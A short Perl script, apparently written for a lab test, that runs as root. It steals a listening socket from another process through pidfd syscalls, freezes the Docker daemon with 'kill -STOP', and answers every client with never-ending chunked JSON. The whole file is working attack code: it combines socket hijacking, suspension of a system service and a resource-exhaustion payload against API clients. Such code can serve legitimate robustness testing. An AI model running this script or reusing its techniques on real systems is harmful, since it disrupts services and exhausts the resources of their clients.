# As root of the lab: stops the lab's engine, takes the socket that the server asks it by, and answers every request
# with JSON that never ends.
use strict;
use warnings;
use Socket;
$SIG{PIPE} = 'IGNORE';
my $pidfd = syscall(434, 1, 0);
my $found;
for my $number (3 .. 8) {
  my $fd = syscall(438, $pidfd, $number, 0);
  next if $fd < 0;
  open(my $candidate, '+<&=', $fd) or next;
  my $name = getsockname($candidate) or next;
  my $listens = getsockopt($candidate, SOL_SOCKET, 30);
  next unless defined $listens && unpack('i', $listens);
  $found = $candidate;
  last;
}
print $found ? "taken\n" : "not taken: $!\n";
$| = 1;
exit unless $found;
system(q(kill -STOP $(pidof dockerd)));
alarm 25;
while (accept(my $client, $found)) {
  next if fork;
  sysread $client, my $request, 8192;
  syswrite $client, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
  my $piece = '[' . ('{"ID":"' . ('x' x 4000) . '"},' x 16);
  my $chunk = sprintf("%x\r\n%s\r\n", length $piece, $piece);
  1 while syswrite $client, $chunk;
  exit;
}
